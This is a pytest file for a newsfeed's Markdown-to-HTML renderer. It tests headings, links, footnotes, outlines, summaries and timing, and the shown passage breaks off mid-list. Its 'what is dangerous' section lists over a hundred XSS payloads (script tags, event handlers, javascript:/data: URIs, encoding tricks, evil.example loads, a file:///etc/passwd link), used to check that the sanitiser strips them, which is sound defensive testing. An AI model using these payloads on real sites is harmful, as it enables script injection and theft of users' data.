"""Markdown as safe HTML, and what a text says about itself."""

import re
import time
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from newsfeed.core.content.source_text import is_clean
from newsfeed.model import Link
from newsfeed.render.allowed_html import cleaner
from newsfeed.render.link_slots import cut_at_links, fill_links
from newsfeed.render.markdown import Outline, cleaned, outline, read
from newsfeed.render.summary import SUMMARY_LENGTH, plain, shortened
from tests.examples import examples

BACK = "Back to {number}"


def as_written(target: str, is_image: bool) -> str:
    """Publishes every address as its author wrote it."""
    return target


def to_html(body: str, resolve: Callable[[str, bool], str], back_label: str, top_level: int = 2) -> str:
    """A text as a page shows it."""
    text = cut_at_links(cleaned(body), back_label, top_level)
    return fill_links(text, lambda target, is_image: (resolve(target, is_image), ""))


def html_of(body: str, **options: int) -> str:
    """The HTML of a text, without the line feed at its end."""
    return to_html(body, as_written, BACK, **options).removesuffix("\n")


def told(body: str, code: str) -> list[tuple[object, int, int]]:
    """What a text's editor is told under a code: (as written, line, column)."""
    remarks = [remark for remark in outline(body).remarks if remark.code == code]
    return [(dict(remark.params).get("value"), remark.line, remark.column) for remark in remarks]


class Events(HTMLParser):
    """HTML as a browser's tokenizer sees it."""

    VOID = frozenset({"br", "hr", "img"})

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.all: list[tuple[object, ...]] = []
        self.unbalanced = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.all.append(("start", tag, tuple(sorted(attrs))))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        self.all.append(("end", tag))
        if not self.open or self.open.pop() != tag:
            self.unbalanced = True

    def handle_data(self, data):
        if self.all and self.all[-1][0] == "text":
            data = str(self.all.pop()[1]) + data
        self.all.append(("text", data))

    def handle_comment(self, data):
        self.all.append(("comment", data))

    def handle_decl(self, decl):
        self.all.append(("declaration", decl))

    def handle_pi(self, data):
        self.all.append(("instruction", data))


# -- what Markdown becomes --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("", ""),
        ("One *two* **three** `four`.", "<p>One <em>two</em> <strong>three</strong> <code>four</code>.</p>"),
        ("~~gone~~", "<p><del>gone</del></p>"),
        ("a  \nb\\\nc", "<p>a<br>\nb<br>\nc</p>"),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("---", "<hr>"),
        ("    code <b>", "<pre><code>code &lt;b&gt;\n</code></pre>"),
        ("```python\nx = 1 & 2\n```", "<pre><code>x = 1 &amp; 2\n</code></pre>"),
        ("https://example.org/a?b=1&c=2", '<p><a href="https://example.org/a?b=1&amp;c=2">https://example.org/a?b=1&amp;c=2</a></p>'),
        ("www.example.org.", '<p><a href="http://www.example.org">www.example.org</a>.</p>'),
        ("a@example.org", '<p><a href="mailto:a@example.org">a@example.org</a></p>'),
        ("<https://example.org>", '<p><a href="https://example.org">https://example.org</a></p>'),
        ('[x](y "A & B")', '<p><a href="y" title="A &amp; B">x</a></p>'),
        ("![a *pump*](p.png)", '<p><img src="p.png" alt="a pump"></p>'),
        ("[x][r]\n\n[r]: y", '<p><a href="y">x</a></p>'),
        ("H<sub>2</sub>O <abbr title='x'>y</abbr>", '<p>H<sub>2</sub>O <abbr title="x">y</abbr></p>'),
        ('<p lang="de" dir="ltr" class="x" id="y">Text</p>', '<p lang="de" dir="ltr" id="y">Text</p>'),
        ('<a id="note"></a>', '<p><a id="note"></a></p>'),
        ("<div class='x'>not only <em>words</em></div>", "<div>not only <em>words</em></div>"),
        ("<font color=red>only the <em>words</em></font>", "<p>only the <em>words</em></p>"),
        ("<!-- remark -->a", "a"),
        ("a <!-- remark --> b", "<p>a  b</p>"),
        ("&copy; &#x41; &amp; &nope;", "<p>© A &amp; &amp;nope;</p>"),
        ("<figure><figcaption>a</figcaption></figure>", "<figure><figcaption>a</figcaption></figure>"),
    ],
)  # fmt: skip
def test_markdown_becomes_html(body, html):
    """CommonMark with strikethrough and bare links; plain HTML passes where it is harmless."""
    assert html_of(body) == html


def test_a_table_has_head_and_alignment():
    """As GitHub writes them."""
    assert html_of("| a | b |\n|---|--:|\n| 1 | *2* |") == (
        "<table>\n<thead>\n<tr>\n<th>a</th>\n"
        '<th align="right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n'
        '<td align="right"><em>2</em></td>\n</tr>\n</tbody>\n</table>'
    )


@pytest.mark.parametrize(("columns", "start"), [(4, "<table>"), (5, '<table tabindex="0">')])
def test_a_wide_table_can_be_reached_by_keyboard(columns, start):
    """It scrolls on small screens."""
    body = "|a" * columns + "|\n" + "|-" * columns + "|\n" + "|1" * columns + "|\n"
    assert html_of(body).startswith(start)


def test_a_footnote_leads_there_and_back():
    """The way back is named in the language of the text, and is a text, not HTML."""
    html = to_html("One[^a] two[^a].\n\n[^a]: Note & more\n", as_written, 'Zurück zu "{number}" <b>')
    assert '<sup class="footnote-ref"><a href="#fn-a" id="fnref-a">1</a></sup>' in html
    assert '<section class="footnotes">\n<ol>\n<li id="fn-a">' in html
    assert 'aria-label="Zurück zu &quot;1&quot; &lt;b&gt;"' in html
    assert 'aria-label="Zurück zu &quot;1-2&quot; &lt;b&gt;"' in html
    assert "Back to reference" not in html


def test_places_of_the_parser_are_not_published():
    """They are for the outline only."""
    assert "sourcepos" not in html_of("# a\n\n[b](c) ![d](e)\n\n| f |\n|---|\n")


@pytest.mark.parametrize(
    "entity", ["&#7;", "&#x1b;", "&#xfffe;", "&#xFFFF;", "&#127;", "&#x80;", "&#0;", "&#xd800;"]
)
def test_entities_cannot_smuggle_in_what_feeds_forbid(entity):
    """A mark stands where the character would be; also in the summary and in alternative texts."""
    assert html_of(f"a{entity}b") == "<p>a\ufffdb</p>"
    assert outline(f"a{entity}b").first_paragraph == "a\ufffdb"
    assert outline(f"![a{entity}b](c)").links[0].alt == "a\ufffdb"


# -- headings ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "levels"),
    [
        ("# a", "2"),
        ("### a", "2"),
        ("# a\n## b\n### c", "2 3 4"),
        ("# a\n### b\n###### c", "2 3 4"),
        ("## a\n#### b\n### c\n## d\n# e", "2 3 3 2 2"),
        ("### a\n# b\n## c", "2 2 3"),
        ("# a\n## b\n# c\n## d", "2 3 2 3"),
        ("# a\n## b\n### c\n#### d\n##### e\n###### f", "2 3 4 5 6 6"),
        ("a\n===\n\nb\n---", "2 3"),
        ('<h1 lang="de">a</h1>\n\n<H4 title=">">b</H4>', "2 3"),
        ("<h1>a<section><h2>b</h2></section></h1>", "2 3"),
        ("<h1>a<h2>b</h2></h1>\n\n## c", "2 3 3"),
        ("<h7>a</h7>\n\n<header>b</header>", ""),
        ("`<h1>`", ""),
    ],
)
def test_headings_begin_below_the_page_and_skip_no_level(body, levels):
    """Whatever levels the author chose, written as Markdown or as HTML."""
    events = Events(html_of(body))
    assert [tag[1] for tag, _ in events.tags if re.fullmatch("h[1-6]", tag)] == levels.split()
    assert not events.unbalanced


@pytest.mark.parametrize(("top", "levels"), [(1, "1 2"), (3, "3 4"), (6, "6 6")])
def test_headings_may_begin_deeper(top, levels):
    """Where the text stands below another heading; six is the last level."""
    events = Events(html_of("# a\n## b", top_level=top))
    assert [tag[1] for tag, _ in events.tags] == levels.split()


# -- links ------------------------------------------------------------------------------------------


def test_every_address_is_resolved():
    """Links and images, in Markdown and in HTML, whatever other attributes they have."""
    asked: list[tuple[str, bool]] = []

    def resolve(target: str, is_image: bool) -> str:
        asked.append((target, is_image))
        return f"/to/{len(asked)}?a=1&b='\"<>"

    body = (
        '[a](x.md "t > u") ![b](y.png)\n\n<a title="v > w" href="z&amp;.md">c</a> <img alt="d" src="w.png">\n'
    )
    html = to_html(body, resolve, BACK)
    assert asked == [("x.md", False), ("y.png", True), ("z&.md", False), ("w.png", True)]
    events = Events(html)
    assert [attrs.get("href") or attrs.get("src") for tag, attrs in events.tags if tag != "p"] == [
        f"/to/{number}?a=1&b='\"<>" for number in (1, 2, 3, 4)
    ]


def test_footnotes_are_resolved_like_other_places_of_the_page():
    """So that they can become absolute where there is no page around them."""
    html = to_html("a[^1]\n\n[^1]: b\n", lambda target, is_image: f"https://example.org/{target}", BACK)
    assert 'href="https://example.org/#fn-1"' in html
    assert 'href="https://example.org/#fnref-1"' in html


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("[words](gone.md)", "<p><a>words</a></p>"),
        ('[words](gone.md "title")', '<p><a title="title">words</a></p>'),
        ('<a id="x" href="gone.md">words</a>', '<p><a id="x">words</a></p>'),
    ],
)
def test_a_link_that_leads_nowhere_keeps_its_words_and_goes(body, html):
    """No address is left, not even an empty one: that would lead to the page itself."""
    assert to_html(body, lambda target, is_image: "", BACK).strip() == html


# -- what is dangerous ------------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/xss src=x></script>",
    "</title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<style><img src="</style><img src=x onerror=alert(1)//"></style>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = 'alert(1)'>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src='x' alt='`' onerror=alert(1)>",
    "<img src=x:x onerror\x0b=alert(1)>",
    "<a onmouseover=alert(1) href=x>y</a>",
    "<p onclick=alert(1)>x</p>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<select onchange=alert(1)><option>x</select>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style=position:fixed;inset:0>x</p>",
    "<template><script>alert(1)</script></template>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<table background=javascript:alert(1)><td background=x>y",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:x'>x</a>",
    "<a href='blob:https://x'>x</a>",
    "<a target=_blank rel=opener href=x ping=//evil.example>x</a>",
    "<img src='javascript:alert(1)' alt=x>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt=x>",
    "<img srcset='javascript:alert(1)' src=x alt=x>",
    "<img longdesc=javascript:alert(1) usemap=#x src=x alt=x>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<del cite=javascript:alert(1)>x</del>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](y)',
    '![x](y "t" onerror="alert(1)")',
    '[x](y "t\\" onmouseover=\\"alert(1)")',
    '[x](y" onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](y)",
    "`<script>`<script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    '<sup class="footnote-ref x"><a class=evil href=x>y</a></sup>',
    "<a aria-label='Back to reference \"><script>alert(1)</script>'>x</a>",
    "<p lang='x\" onclick=\"alert(1)'>y</p>",
    "<a href=x tabindex=0 accesskey=x contenteditable>y</a>",
    "<h1 onclick=alert(1)>x</h1>",
    "<x-y onclick=alert(1)>x</x-y>",
    "<isindex action=javascript:alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "\x00<script>alert(1)</script>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    '<a href="\ufeffjavascript:alert(1)">x</a>',
]  # fmt: skip

ALLOWED = {
    "": {"id", "lang", "dir", "title"},
    "a": {"href", "aria-label", "class"},
    "img": {"src", "alt", "width", "height"},
    "col": {"span"},
    "colgroup": {"span"},
    "details": {"open"},
    "li": {"id"},
    "ol": {"start"},
    "table": {"tabindex"},
    "td": {"align", "colspan", "rowspan"},
    "th": {"align", "colspan", "rowspan", "scope"},
    "time": {"datetime"},
    "section": {"class"},
    "sup": {"class"},
}
CLASSES = {"footnotes", "footnote-ref", "footnote-backref", "", None}
TAGS = {
    *("a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "dfn", "dl", "dt", "em"),
    *(
        "figcaption",
        "figure",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
    ),
    *(
        "p",
        "pre",
        "q",
        "s",
        "section",
        *(
            "bdi",
            "bdo",
            "col",
            "colgroup",
            "details",
            "div",
            "rp",
            "rt",
            "ruby",
            "samp",
            "span",
            "summary",
            "u",
        ),
        *("var", "wbr"),
        "small",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
    ),
    *("thead", "time", "tr", "ul"),
}


def dangers(html: str) -> list[object]:
    """Everything in published HTML that is not on the list of what may be there."""
    events = Events(html)
    found: list[object] = [one for one in events.all if one[0] in ("comment", "declaration", "instruction")]
    for tag, attrs in events.tags:
        if tag not in TAGS:
            found.append(tag)
        for name, value in attrs.items():
            if name not in ALLOWED[""] | ALLOWED.get(tag, set()):
                found.append((tag, name))
            if name == "class" and value not in CLASSES:
                found.append((tag, name, value))
            if name in ("href", "src"):
                bare = re.sub(r"[\x00-\x20]", "", value or "")  # as browsers read it
                scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", bare)
                if scheme and scheme[1].lower() not in ("http", "https", "mailto", "tel"):
                    found.append((tag, name, value))
    return found


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_attacks_do_not_survive(attack):
    """Alone, inside a paragraph, a list, a quotation, a table and a heading."""
    for body in (
        attack,
        f"text {attack} text",
        f"- {attack}",
        f"> {attack}",
        f"| {attack} |\n|---|",
        f"# {attack}",
        f"<div>\n{attack}",
    ):
        html = html_of(body)
        assert dangers(html) == []
        assert not Events(html).unbalanced
        outline(body)


@pytest.mark.parametrize("scheme", ["javascript", "data", "vbscript", "file", "feed", "blob", "x"])
def test_a_forbidden_scheme_leaves_no_address(scheme):
    """The words stay."""
    assert html_of(f"[words]({scheme}:x)") in ("<p><a>words</a></p>", "<p>[words](javascript:x)</p>")


def test_the_list_of_attacks_would_be_noticed():
    """The judge itself finds what it looks for."""
    assert dangers(
        "<script></script><p style=x onclick=y><a href='java\tscript:x'>z</a><h1></h1><!-- x -->"
    ) == [
        ("comment", " x "),
        "script",
        ("p", "style"),
        ("p", "onclick"),
        ("a", "href", "java\tscript:x"),
        "h1",
    ]


# -- the outline ------------------------------------------------------------------------------------


def test_an_outline_of_nothing_is_empty():
    """No links, no words."""
    assert outline("") == Outline((), "")


@pytest.mark.parametrize(
    ("body", "links"),
    [
        ("[a](b)", [("b", 1, 1)]),
        ("x [a](b) y [c](d)", [("b", 1, 3), ("d", 1, 12)]),
        ("ünï 日本 🦀 [a](b)", [("b", 1, 10)]),
        ("é\n\nü [a](b)\nö ö [c](d)", [("b", 3, 3), ("d", 4, 5)]),
        ("- ü [a](b)", [("b", 1, 5)]),
        ("> ü\n> ü [a](b)", [("b", 2, 5)]),
        ("| ü | ö |\n|---|---|\n| é | [a](b) |", [("b", 3, 7)]),
        ("# ü [a](b)", [("b", 1, 5)]),
        ("**ü [a](b)**", [("b", 1, 5)]),
        ("[![a](b.png)](c)", [("c", 1, 1), ("b.png", 1, 2)]),
        ("[a][r] and [r]\n\n[r]: b", [("b", 1, 1), ("b", 1, 12)]),
        ("a[^1]\n\n[^1]: [b](c)", [("c", 3, 7)]),
        ("ü https://example.org", [("https://example.org", 1, 3)]),
        ("ü <a@example.org>", [("mailto:a@example.org", 1, 3)]),
        ("[a](b&amp;c)", [("b&c", 1, 1)]),
        ('ü <a href="b.md">c</a>', [("b.md", 1, 3)]),
        ("b.md\n\n<a class=x href='b.md'>c</a>", [("b.md", 3, 1)]),
        ('<a href="my file.pdf">c</a>', [("my file.pdf", 1, 1)]),
        ("<a href=b>c</a> <a href=b>d</a>", [("b", 1, 1), ("b", 1, 17)]),
        ("`<a href=b>` <a href=b>d</a>", [("b", 1, 14)]),
        ("ü ``é\n<a href=b>`` <a href=b>d</a>", [("b", 2, 14)]),
        ("```\n<a href=b>\n```\n\nü `<a href=b>` <a href=b>d</a>", [("b", 5, 16)]),
        ("<A\n  HREF = b>c</A>", [("b", 1, 1)]),
        ("> <a\n> href=b>c</a>", [("b", 1, 3)]),
        ('<a href="">c</a>', [("", 1, 1)]),
        ("<a name=x>c</a>", []),
        ("`[a](b)`", []),
        ("    [a](b)", []),
        ("```\n[a](b)\n<a href=c>\n```", []),
        ("\\[a](b)", []),
        ("[a] (b)", []),
        ("[#](#top)", [("#top", 1, 1)]),
    ],
)
def test_links_are_found_with_their_places(body, links):
    """In characters from 1, whatever stands before them; code is no link."""
    assert [(link.target, link.line, link.column) for link in outline(body).links] == links


@pytest.mark.parametrize(
    ("body", "image"),
    [
        ("![a *b*](c)", Link("c", 1, 1, is_image=True, alt="a b")),
        ("![](c)", Link("c", 1, 1, is_image=True)),
        ('![A "b" &](c)', Link("c", 1, 1, is_image=True, alt='A "b" &')),
        ('<img src="c" alt="A &quot;b&quot;">', Link("c", 1, 1, is_image=True, alt='A "b"')),
        ("<img alt='x > y' src=c>", Link("c", 1, 1, is_image=True, alt="x > y")),
        ("<IMG SRC=c ALT=pump>", Link("c", 1, 1, is_image=True, alt="pump")),
        ("<img src=c>", Link("c", 1, 1, is_image=True)),
        ("<img data-src=d src=c alt=''>", Link("d", 1, 1, is_image=True)),
    ],
)
def test_images_are_found_with_their_words(body, image):
    """The alternative text as readers get it."""
    assert outline(body).links[0].is_image
    assert outline(body).links[0].alt == image.alt
    assert outline(body).links[0].line == image.line


@pytest.mark.parametrize(
    ("body", "paragraph"),
    [
        ("# Head\n\nFirst *one*.\n\nSecond.", "First one."),
        ("![p](q)\n\nText", "Text"),
        ("- a list\n\nText", "Text"),
        ("> quoted\n\nText", "quoted"),
        ("a\nb  \nc", "a b c"),
        ("One[^1] two.\n\n[^1]: Note", "One two."),
        ("[^1]\n\nText\n\n[^1]: Note", "Text"),
        ("`a < b` & &copy; 10&nbsp;%", "a < b & © 10\u00a0%"),
        ("<p></p><p>Text <b>bold</b></p>", "Text bold"),
        ("<div>no paragraph</div>", "no paragraph"),
        ("<p>never closed", "never closed"),
        ("# Only a head", ""),
        ("word " * 100, "word " * 58 + "word…"),
    ],
)
def test_the_first_paragraph_is_plain_text(body, paragraph):
    """Without marks, notes and images, cut at a word."""
    assert outline(body).first_paragraph == paragraph


@pytest.mark.parametrize(
    ("body", "refused"),
    [
        ("<script>x</script>", [("script", 1, 1)]),
        ("ü\n\nä <IFRAME src=x></IFRAME>", [("iframe", 3, 3)]),
        ("<p onclick=x>a</p>", [("onclick", 1, 1)]),
        ("a <b style='x'>c</b>", [("style", 1, 3)]),
        ("<form>\n<input>\n</form>", [("form", 1, 1), ("input", 2, 1)]),
        ("<svg><style></style></svg>", [("svg", 1, 1), ("style", 1, 6)]),
        ("<video src=x>\n\n<video src=x>", [("video", 1, 1), ("video", 3, 1)]),
        ("`<script>`", []),
        ("``a ` <script>``", []),
        ("```\n<script>\n```", []),
        ("```\n<script>", []),
        ("    <script>", []),
        ("~~~\n<style>\n~~~", []),
        ("\\<script>", []),
        ("a < b and c > d", []),
        ("<b>fine</b>", []),
        ('[a](b "c onclick=d")', []),
        ("<scripture>", []),
        ("copy <source> to <output>", [("source", 1, 6), ("output", 1, 18)]),
        ("a <template> that would hide all below", [("template", 1, 3)]),
        ("<data-x>", []),
        ("<https://example.org/?onload=x>", []),
        ("`<script>` <script>", [("script", 1, 12)]),
        ("    <script>\n\nü <script>", [("script", 3, 3)]),
        ("a[^1]\n\n[^1]: <form>\n\n<form>", [("form", 3, 7), ("form", 5, 1)]),
    ],
)
def test_html_that_will_not_be_published_is_named(body, refused):
    """With its place; in code it is a text like others."""
    assert told(body, "html-removed") == refused


@pytest.mark.parametrize(
    ("text", "length", "short"),
    [
        ("short", 10, "short"),
        ("exactly 10", 10, "exactly 10"),
        ("one two three", 10, "one two…"),
        ("one, two three", 10, "one, two…"),
        ("one, two three", 6, "one…"),
        ("one – two three", 7, "one…"),
        ("unbreakable", 5, "unbr…"),
    ],
)
def test_a_long_text_is_cut_after_a_word(text, length, short):
    """Never longer than asked, without a comma at the end."""
    assert shortened(text, length) == short
    assert len(short) <= length


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<p>a <b>b</b>\n c</p>", "a b c"),
        ("a &lt;b&gt; &amp;amp;", "a <b> &amp;"),
        ("", ""),
        ("a < b", "a < b"),
    ],
)
def test_the_words_of_html_stand_on_one_line(html, words):
    """Entities are read once."""
    assert plain(html) == words


# -- anything at all --------------------------------------------------------------------------------

SLOW = 20_000
"""How often a piece is repeated; a quadratic pattern needs seconds for that."""


@pytest.mark.parametrize(
    "body",
    [
        "<a " * SLOW,
        "<div>\n" + "<a " * SLOW,
        "<div>\n" + "<a href=x " * SLOW,
        "<div>\n" + '<a href="' * SLOW,
        "<div>\n" + "<img src=x alt='" * SLOW,
        "> <a\n> href=x " * (SLOW // 4),
        "<p>" * SLOW,
        "<p>" * SLOW + "</p>",
        "<p " * SLOW,
        "<p>" + "<" * 5 * SLOW + "</p>",
        "<p>" + '<sup class="footnote-ref">' * SLOW + "</p>",
        "<div>\n" + "<x onx " * SLOW,
        "<div>\n" + """<a '"<a "'""" * SLOW,
        "<div>\n" + "\"<a '\"" * SLOW,
        "<" + " ".join("`" * number for number in range(1, 400)),
        "<" + "`a``" * SLOW,
        "[a](b) " * (SLOW // 4),
        "ü [a](b) " * (SLOW // 4),
        "<b>" * (SLOW // 4) + "é\n" * SLOW + "<a href=x>" * (SLOW // 4),
        "".join(f"a[^{number}]\n\n[^{number}]: b\n\n" for number in range(SLOW // 20)),
    ],
    ids=range(20),
)  # fmt: skip
def test_no_text_takes_long_to_check(body):
    """A check of a hundred kilobytes takes no time that a person would notice."""
    started = time.process_time()
    outline(body)
    assert time.process_time() - started < 2


SIGNS = [
    *(
        "a",
        "ü",
        "日",
        " ",
        "  ",
        "\n",
        "\n\n",
        "*",
        "**",
        "_",
        "`",
        "```",
        "~~",
        "#",
        "## ",
        "###### ",
        "- ",
        "1. ",
        "> ",
    ),
    *(
        "[",
        "]",
        "(",
        ")",
        "](",
        "![",
        "[a](b)",
        "[^1]",
        "[^1]: ",
        "[r]: x\n",
        "[r]",
        "|",
        "|-|",
        "| a |\n|---|\n",
    ),
    *(
        "\\",
        "&",
        "&#7;",
        "&lt;",
        "<",
        ">",
        '"',
        "'",
        "=",
        "http://a.b",
        "www.a.b",
        "a@b.c",
        "javascript:",
        "data:",
    ),
    *("\t", "    ", "---\n", "===\n", "\u2028", "\u00a0"),
]
HTML = [
    *(
        "</",
        "<b>",
        "</b>",
        "<p>",
        "</p>",
        "<h1>",
        "<h2 lang=de>",
        "</h1>",
        "<section>",
        "</section>",
        "<a href=x>",
    ),
    *(
        "<a title='>' href=\"y\">",
        "</a>",
        "<img src=x>",
        "<table>",
        "<td>",
        "<th>",
        "</table>",
        "<script>",
        "</script>",
    ),
    *("<style>", "<svg>", "<math>", "<!--", "-->", "<![CDATA[", "]]>", "<?", "onclick=x", "style='"),
]
WORDS = st.text(alphabet=st.characters(codec="utf-8"), max_size=60)
MARKDOWN = st.one_of(st.lists(st.sampled_from(SIGNS), max_size=25).map("".join), WORDS)
MIXED = st.lists(st.sampled_from(SIGNS + HTML), max_size=25).map("".join)


@given(st.one_of(MARKDOWN, MIXED))
@example("<h1><section><h1>a")
@example("<h1><a href=x><h1><a href=x>")
@settings(max_examples=examples(200), deadline=None)
def test_any_text_becomes_safe_balanced_html(body):
    """Balanced and on the list; still so when a browser has read it and written it again."""
    html = html_of(body)
    events = Events(html)
    assert not events.open
    assert not events.unbalanced
    assert dangers(html) == []
    assert dangers(cleaner().clean(html).replace("<h1", "<h2")) == []


@given(MARKDOWN)
@example("|a|b|c|d|e|\n|-|-|-|-|-|\n")
@example("[it's](it's \"it's\") &nbsp; \u00a0")
@settings(max_examples=examples(150), deadline=None)
def test_markdown_leaves_nothing_for_the_sanitiser_to_do(body):
    """Cleaning what was cleaned changes nothing; the mark of wide tables is our own."""
    html = html_of(body).replace('<table tabindex="0">', "<table>")
    assert Events(cleaner().clean(html)).all == Events(html).all


NEARLY_PLAIN = st.lists(
    st.one_of(
        st.sampled_from(
            [
                *(
                    "word",
                    "Ünï",
                    "*em*",
                    "**strong**",
                    "`code`",
                    "~~gone~~",
                    "\n",
                    "\n\n",
                    "\n- ",
                    "\n  - ",
                    "\n7. ",
                    "\n> ",
                ),
                *(
                    "\n## ",
                    "\n***\n",
                    "  \n",
                    "\\\n",
                    "&",
                    "&amp;quot;",
                    "&quot;",
                    "&lt;",
                    "&#13;",
                    "&nbsp;",
                    "&#7;",
                    '"',
                    "'",
                ),
                *(
                    "\u00a0",
                    "\ufeff",
                    "\r",
                    "/>",
                    " />",
                    "]",
                    "[",
                    "(",
                    ")",
                    "![",
                    "*",
                    "_",
                    "`",
                    "www.example.org",
                ),
                *(
                    "https://a.example.org",
                    "a@example.org",
                    "[^1]",
                    "\n[^1]: n",
                    "[r][1]",
                    "\n\n[1]: /u\n",
                    "\n|-|\n",
                    "|",
                ),
                *(
                    "![i](p.png)",
                    "![a\u00a0b](x)",
                    '![a"b](x)',
                    "[![i](p.png)](x)",
                    '[t](x "t")',
                    "[https://a.org](b)",
                ),
            ]
        ),
        st.sampled_from(
            [
                *(
                    "x",
                    "",
                    "/u",
                    "//x.y",
                    "../x.md#y",
                    "#fn-1",
                    "?x",
                    "a:b",
                    "/a:b",
                    "a b",
                    "é",
                    'a"b',
                    "a'b",
                    "a&amp;b",
                ),
                *(
                    "https://example.org/a?b=c&d=e#f",
                    "HTTP://X.ORG",
                    "http:///a",
                    "http://1.2.3.4",
                    "http://999.9.9.9/",
                ),
                *(
                    "http://a.0x1",
                    "http://a.b:99999",
                    "https://xn--zz.de",
                    "http://-a.org",
                    "http://a_b.org",
                    "http://a.org.",
                ),
                *(
                    "http://a.orgé",
                    "http://u@example.org",
                    "https://a.orgx@y",
                    "mailto:ann@example.org",
